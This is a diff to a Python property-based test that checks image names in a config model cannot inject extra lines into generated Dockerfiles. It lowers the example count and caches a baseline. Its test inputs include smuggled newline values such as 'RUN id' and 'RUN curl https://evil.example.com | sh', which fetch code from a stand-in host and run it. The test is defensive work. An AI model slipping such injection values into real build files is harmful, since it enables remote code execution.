@@ -25,7 +25,7 @@ WORDS = ("redis:8", "/etc/x", "https://a/b", "10M", "30s", "a@b", "* * * * *", "
 ODD = ("", "\n", "\nRUN id", "\r", "\r\nRUN id", "\x00", "\x0b", "\x0c", "\x1b[2J", "\x7f", "\x85", "\u2028")
 
 fixed = settings(
-    deadline=None, max_examples=150, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
+    deadline=None, max_examples=60, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
 )
 
 
@@ -75,6 +75,9 @@ def lines(**images: str) -> list[list[str]]:
     return found
 
 
+WITHOUT = lines()
+
+
 @fixed
 @given(st.text() | st.from_regex(IMAGE_PATTERN) | st.sampled_from([f"python:3{odd}RUN id" for odd in ODD]))
 @example("python:3\nRUN curl https://evil.example.com | sh")
@@ -85,7 +88,7 @@ def test_no_image_that_is_taken_adds_a_line_to_a_dockerfile(image: str) -> None:
         model = spec(images={"base": image, "docker-cli": image, "restic": image})
     except ValidationError:
         return
-    assert lines(**model.images) == lines()
+    assert lines(**model.images) == WITHOUT
 
 
 @each_row(
